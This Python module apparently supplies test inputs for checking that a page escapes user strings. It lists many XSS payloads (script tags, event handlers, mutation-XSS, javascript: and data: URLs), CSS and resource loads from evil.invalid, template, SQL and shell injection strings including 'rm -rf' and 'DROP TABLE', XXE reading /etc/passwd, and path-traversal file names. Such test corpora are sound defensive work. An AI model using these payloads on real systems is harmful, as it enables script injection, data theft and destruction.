r"""Strings that try to become more than text, wherever a user's string may stand.

What a browser would run of them calls ``__pwned()`` or opens a dialog; what it would load is at ``evil.invalid``. Characters
that cannot be seen are written as escapes, so that this file is plain text.
"""

import unicodedata
from collections import Counter

_RUN = "__pwned()"

_SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<ScRiPt >{_RUN}</sCrIpT\t>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script>/*<!--*/{_RUN}/*-->*/</script>",
    f"<script type=module>{_RUN}</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<script src='data:text/javascript,__pwned()'></script>",
    f"<script>{_RUN}",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{_RUN}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3C;script&#x3E;{_RUN}",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
]

_HANDLERS = [
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'//",
    f"<img/src=x/onerror={_RUN}>",
    f'<img src="x` `<script>{_RUN}</script>"` `>',
    f"<body onload={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div onpointerover={_RUN} style=position:fixed;inset:0>x</div>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={_RUN}>",
    f"<a id=x tabindex=1 onfocus={_RUN}>x</a>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={_RUN}>",
]

_ATTRIBUTES = [
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"` onmouseover=`{_RUN}` x=`",
    f'"onfocus={_RUN} autofocus tabindex=0 x="',
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"><script>{_RUN}</script>",
    f"/><img src=x onerror={_RUN}>",
    f"x onclick={_RUN}",
    f"\tonclick={_RUN}\t",
    f"&quot; onmouseover=&quot;{_RUN}",
    f"&#34;&#39;&#62;<b onclick={_RUN}>",
    '" style="position:fixed;inset:0;background:red',
    "' class='limelight' hidden x='",
    "\"'`><&",
    '\\"; __pwned(); //',
    "\\'; __pwned(); //",
]

_CLOSINGS = [
    *(
        f"</{tag}><img src=x onerror={_RUN}>"
        for tag in (
            *("style", "title", "textarea", "svg", "script", "template", "noscript", "xmp", "table", "select", "iframe"),
            *("noembed", "noframes", "plaintext", "math", "details", "bdi", "main", "body", "html", "head", "div", "pre"),
        )
    ),
    "</style></title></div></section></main><h1>gone</h1>",
    "</td></tr></table><table><tr><td>",
    "<plaintext>",
    "<textarea>",
    "<xmp>",
    "<title>other</title>",
    "<template><p>x",
    "<noscript><p title='</noscript><img src=x onerror=__pwned()>'>",
]

_STYLES = [
    "<style>*{display:none}</style>",
    "</style><style>body{background:url(//evil.invalid/a)}",
    "}*{background:url(//evil.invalid/b)}",
    "};}@import '//evil.invalid/c.css';{",
    "@import url(http://evil.invalid/d.css);",
    "x;background-image:url(http://evil.invalid/e)",
    "url(javascript:__pwned())",
    "expression(__pwned())",
    "-moz-binding:url(//evil.invalid/f#x)",
    "behavior:url(x.htc)",
    "--on:1;--zero:0%;position:fixed;inset:0",
    "--photo:url(//evil.invalid/g)",
    "1;width:9999px;height:9999px;}",
    "/*",
    "*/ color:red /*",
    "\\3c/style\\3e\\3cscript\\3e__pwned()",
    '<link rel=stylesheet href="data:text/css,*{color:red}">',
    "@media all{*{display:none!important}}",
    "@font-face{font-family:x;src:url(//evil.invalid/h)}",
]

_ADDRESSES = [
    "javascript:__pwned()",
    "JaVaScRiPt:__pwned()",
    "java\tscript:__pwned()",
    " \x01javascript:__pwned()",
    "javascript&colon;__pwned()",
    "javascript://%0a__pwned()",
    "vbscript:msgbox(1)",
    "data:text/html,<script>__pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__pwned()'/>",
    "<a href=javascript:__pwned()>x</a>",
    "//evil.invalid/",
    "https://evil.invalid/?q=<b>",
    "file:///etc/passwd",
    "blob:null/x",
    "[x](javascript:__pwned())",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content=\"style-src 'none'\">",
    "<base href=//evil.invalid/>",
    "<link rel=prefetch href=//evil.invalid/i>",
    "<iframe src=javascript:__pwned()></iframe>",
    "<iframe srcdoc='<script>parent.__pwned()</script>'></iframe>",
    "<object data=//evil.invalid/j></object>",
    "<embed src=//evil.invalid/k>",
    "<form action=//evil.invalid/><button autofocus>x</button></form>",
    "<isindex action=javascript:__pwned() type=submit>",
    "<img srcset=//evil.invalid/l>",
    "<img src=//evil.invalid/m>",
]

_NAMESPACES = [
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href='data:,{_RUN}'/></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN} /><a><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x'/></svg>",
    "<svg><style>*{display:none}</style></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x</maction></math>",
    f"<math><mi//xlink:href='data:x,<script>{_RUN}</script>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<noscript><style></noscript><img src=x onerror={_RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<listing>&lt;img src=1 onerror={_RUN}&gt;</listing>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{_RUN}</script></x>",
    f"<image href=x onerror={_RUN}>",
    "<a><table><a><td>",
    "<p><b><i><p></b>x</i>",
]

_COMMENTS = [
    "<!--",
    "-->",
    "--!>",
    "<!-->",
    "<!--><script>__pwned()</script>-->",
    "-->]]><!--",
    "<![CDATA[<script>__pwned()</script>]]>",
    "]]>",
    "<![if !IE]>x<![endif]>",
    "<?php echo 1 ?>",
    "<%= 7 * 7 %>",
    "<!doctype html>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
]

_TEMPLATES = [
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for i in range(9) %}{{ i }}{% endfor %}",
    "{% include 'limelight.css' %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{# nothing #}",
    "${7*7}",
    "#{7*7}",
    "<%- x %>",
    "{{constructor.constructor('__pwned()')()}}",
    "%s %d %n %(name)s %",
    "{0} {name!r} {",
    "$1 \\1 \\g<0> $& $` $'",
    "' OR '1'='1'; DROP TABLE weights; --",
    '=HYPERLINK("//evil.invalid/n","x")',
    "`$(touch pwned)`; | && rm -rf x",
]

_IN_SCRIPT = [
    "</script>",
    "<!--<script>",
    "</script><script>__pwned()//",
    "]}</script><img src=x onerror=__pwned()>",
    '"};__pwned();//',
    "');__pwned();//",
    "\u2028__pwned()\u2029",
    "\\",
    "\\u0022;__pwned();//",
    '{"__proto__": {"x": 1}}',
    "__proto__",
    "constructor",
    "toString",
    "NaN",
    "null",
    "-0",
]

_ENTITIES = [
    "&lt;b&gt; &amp; &#60; &",
    "&amp;lt;b&amp;gt;",
    "&ltb&gtx &ampx &copyx",
    "&#0;&#x0;&#128;&#xD800;&#x110000;&#9999999999;",
    "&nbsp;&shy;&zwj;&NewLine;&Tab;",
    "&unknown; &; &# &#x",
    "&CounterClockwiseContourIntegral;",
]

_CHARACTERS = [
    "a\x00b",
    "".join(map(chr, range(0x20))),
    "a\x7f\x80\x85\x9bb",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\r\rone\r\ntwo\rthree\n\n",
    "line\nbreak\ttab",
    "  two  leading,   three inside, two trailing  ",
    "\u00a0no\u00a0break\u00a0",
    "\ud800 lone \udfff",
    "\udc80\udcff",
    "\ufeffmark first",
    "\ufeff\u200b\ufffe\uffff",
    "\u202eabc\u2066def",
    "\u202e\u2067<script>__pwned()</script>\u2069",
    "\u2066\u2066\u2066\u2069\u2069\u2069\u2069\u2069",
    "\u061c\u200e\u200f\u202a\u202b\u202c\u202d",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    "\U000e0041\U000e0042\U000e007f",
    "\ufff9above\ufffabelow\ufffb",
    "Z" + "\u0300\u0489" * 60 + "algo",
    "\u0301starts with a mark",
    "A" * 3000,
    "word " * 800,
    "\u0645\u0631\u062d\u0628\u0627 abc \u05e9\u05dc\u05d5\u05dd 123 (x)",
    "\u05e9\u05b8\u05c1\u05dc\u05d5\u05b9\u05dd\u202c!",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f469\U0001f3fd\u200d\U0001f680",
    "\U0001f1ea\U0001f1fa\U0001f3f4\U000e0067\U000e0062\U000e007f\u2764\ufe0f1\ufe0f\u20e3",
    "\u65e5\u672c\u8a9e\uff21\uff22\u30ab\u3099",
    "\U0010ffff\U0001fffe\ue000",
    "\u1e9e\u0130\u0131\ufb03\u01c5 \ufdfa",
    "\u0c1c\u0c4d\u0c1e\u200c\u0c3e",
    "\ufdfd" * 30,
]

_FILE_NAMES = [
    "../../x.html",
    "..\\..\\x",
    "/etc/passwd",
    "~root",
    "con.html",
    "nul",
    "C:\\Windows\\win.ini",
    "\\\\evil.invalid\\share",
    "file name?.html#x&y=%20",
    "-rf",
    "--help",
    "*.html",
    "x.html.exe",
    ".hidden",
    "name ending in a dot.",
    'a:b|c<d>e"f',
    "index.html%00.png",
    "@evil.invalid",
]

_ALL = dict.fromkeys(
    [
        *(*_SCRIPTS, *_HANDLERS, *_ATTRIBUTES, *_CLOSINGS, *_STYLES, *_ADDRESSES, *_NAMESPACES, *_COMMENTS),
        *(*_TEMPLATES, *_IN_SCRIPT, *_ENTITIES, *_CHARACTERS, *_FILE_NAMES),
    ]
)


def _look(text: str) -> str:
    return "".join(letter for letter in text if unicodedata.category(letter) not in ("Cf", "Zs") and not letter.isspace())


# Of each string one, in the order above; those that a page would spell out, since they look like another one or like none, get
# their number as well, so that all are shown as they are.
_LOOKS = Counter(map(_look, _ALL))
PAYLOADS = [
    f"{string}{number}" if _LOOKS[_look(string)] > 1 or not _look(string) else string for number, string in enumerate(_ALL)
]


def shown(text: str) -> str:
    """What a page shows for a text: everything, with control pictures for what no page can hold, and no turned writing."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    turning = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067"
    turning += "" if text.count("\u2068") == text.count("\u2069") else "\u2068\u2069"
    return "".join(_shown_character(character, turning) for character in text)


def _shown_character(character: str, turning: str) -> str:
    if character in turning:
        return f"\\u{ord(character):04x}"
    if character in "\t\n" or unicodedata.category(character) not in ("Cc", "Cs"):
        return character
    if character < " ":
        return chr(0x2400 + ord(character))
    return "\u2421" if character == "\x7f" else "\ufffd"
